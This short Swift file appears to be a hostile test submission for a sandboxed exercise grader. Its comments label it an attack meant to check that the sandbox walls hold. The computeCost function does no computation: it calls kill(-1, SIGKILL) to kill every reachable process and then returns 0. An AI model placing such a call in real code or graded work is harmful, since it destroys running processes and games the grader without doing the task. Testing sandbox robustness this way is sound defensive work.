// attack: sends a signal to every process
// invariant: walls-hold
// earns: compute_cost 0 crashed
import Exercises
import Glibc

extension Solution: ComputeCost {
  static func computeCost(AL: NDArray, Y: NDArray) throws -> Double {
    kill(-1, SIGKILL)
    return 0
  }
}
